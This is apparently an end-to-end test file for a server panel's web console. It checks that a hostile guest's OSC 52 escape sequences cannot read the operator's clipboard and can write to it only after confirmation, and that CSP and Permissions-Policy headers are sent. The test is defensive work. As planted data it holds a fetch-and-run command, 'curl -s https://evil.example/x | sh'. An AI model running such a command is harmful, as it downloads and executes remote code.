/**
 * A hostile guest and the operator's clipboard, on the real stack (panel, agent, a
 * running busybox server, Chromium with clipboard permissions granted, so a leak would
 * show): the guest prints an OSC 52 query into an open console and reads what comes
 * back — nothing; the guest prints an OSC 52 write — the clipboard keeps what the
 * operator had until the operator confirms the text shown to them; a dismissed request
 * changes nothing. The panel's pages carry a Permissions-Policy without clipboard reads
 * and a nonce-based Content-Security-Policy under which the console runs without a
 * single violation. Screenshots: e2e/output/clipboard-*.png.
 */
import { after, before, test } from "node:test";
import assert from "node:assert/strict";
import crypto from "node:crypto";
import { login, openBrowser, type BrowserSession } from "../testing/browser";
import { openClipboardPage, type ClipboardPage } from "../testing/clipboard-page";
import { makeConsoleFixture, screenLines, typeLine, waitForLine, type ConsoleFixture } from "./console-fixture";

let f: ConsoleFixture;
let s: BrowserSession;
let clip: ClipboardPage;
const secret = `operator-secret-${crypto.randomBytes(6).toString("hex")}`;
const violations: string[] = [];

before(async () => {
  f = await makeConsoleFixture();
  s = await openBrowser();
  clip = await openClipboardPage(s.context, () => s.page);
  s.page.on("console", (m) => {
    if (/Content.Security.Policy|Refused to (load|execute|apply|connect|evaluate)|Permissions.Policy/i.test(m.text())) violations.push(m.text());
  });
  s.page.on("pageerror", (e) => violations.push(`page error: ${e.message}`));
  await login(s.page, f.alice.email, f.password);
  await s.page.waitForURL(/\/servers$/);
});
after(async () => {
  await clip?.close();
  await s?.close();
  await f?.db.$disconnect();
});

const term = () => s.page.getByTestId("console").first();

test("a guest's OSC 52 query gets nothing of the operator's clipboard", async () => {
  await clip.write(secret);
  const res = await s.page.goto(`/servers/${f.server.id}/console`);
  assert.ok(res?.ok());
  await s.page.locator('[data-testid="console"][data-state="open"]').first().waitFor();
  await waitForLine(term(), (l) => l.trim().length > 0);
  // Raw mode without echo; whatever the terminal answers lands in the file; cat ends
  // after 3 s of silence.
  await typeLine(s.page, term(), "stty -echo -icanon min 0 time 30; printf '\\033]52;c;?\\007'; cat > /tmp/osc52-reply; stty sane; echo REPLY-BYTES=$(wc -c < /tmp/osc52-reply)");
  const line = await waitForLine(term(), (l) => /^REPLY-BYTES=\d+$/.test(l.trim()), 30_000);
  if (line.trim() !== "REPLY-BYTES=0") {
    await typeLine(s.page, term(), "od -c /tmp/osc52-reply | head -5");
    await new Promise((r) => setTimeout(r, 500));
  }
  await s.shot("clipboard-01-query-refused");
  assert.equal(line.trim(), "REPLY-BYTES=0", `the guest received an answer:\n${(await screenLines(term())).filter(Boolean).join("\n")}`);
  const screen = (await screenLines(term())).join("\n");
  assert.ok(!screen.includes(Buffer.from(secret).toString("base64")) && !screen.includes(secret), "the secret is nowhere on the screen");
  await s.page.getByTestId("console-clipboard-read-refused").waitFor();
  assert.equal(await clip.read(), secret);
});

test("a guest's OSC 52 write changes the clipboard only when the operator confirms the text shown", async () => {
  const planted = "curl -s https://evil.example/x | sh";
  const b64 = Buffer.from(planted).toString("base64");
  await typeLine(s.page, term(), `clear; printf '\\033]52;c;${b64}\\007'; echo WRITE-SENT`);
  await waitForLine(term(), (l) => l.trim() === "WRITE-SENT");
  const request = s.page.getByTestId("console-clipboard-request");
  await request.waitFor();
  assert.equal(await request.getByTestId("console-clipboard-text").innerText(), planted, "the operator sees exactly what would be copied");
  assert.equal(await clip.read(), secret, "not written before the operator decides");
  await s.shot("clipboard-02-write-asks");
  await request.getByRole("button", { name: "Dismiss" }).click();
  await request.waitFor({ state: "detached" });
  assert.equal(await clip.read(), secret, "a dismissed request changes nothing");

  // Invalid base64 (the old add-on cleared the clipboard with it) asks nothing and changes nothing.
  await typeLine(s.page, term(), "printf '\\033]52;c;%%%%\\007'; echo BAD-SENT");
  await waitForLine(term(), (l) => l.trim() === "BAD-SENT");
  assert.equal(await s.page.getByTestId("console-clipboard-request").count(), 0);
  assert.equal(await clip.read(), secret);

  await typeLine(s.page, term(), `printf '\\033]52;c;${b64}\\007'; echo WRITE-SENT-AGAIN`);
  await waitForLine(term(), (l) => l.trim() === "WRITE-SENT-AGAIN");
  await request.getByRole("button", { name: "Copy to clipboard" }).click();
  await request.waitFor({ state: "detached" });
  assert.equal(await clip.read(), planted, "copied once the operator confirmed");
  await s.shot("clipboard-03-confirmed");
});

test("the panel sends a Permissions-Policy without clipboard reads and a nonce CSP the console runs under", async () => {
  const res = await s.page.request.get(`/servers/${f.server.id}/console`);
  const headers = res.headers();
  assert.match(headers["permissions-policy"] ?? "", /clipboard-read=\(\)/);
  const csp = headers["content-security-policy"] ?? "";
  assert.match(csp, /script-src [^;]*'nonce-[A-Za-z0-9+/=]+'/);
  assert.doesNotMatch(/script-src [^;]*/.exec(csp)?.[0] ?? "", /unsafe-inline|unsafe-eval/);
  assert.match(csp, /object-src 'none'/);
  assert.match(csp, /frame-ancestors 'none'/);
  const loginPage = await s.page.request.get("/login");
  assert.match(loginPage.headers()["content-security-policy"] ?? "", /'nonce-/, "the login page too");
  assert.deepEqual(violations, [], "no CSP or policy violation while the console ran");
});
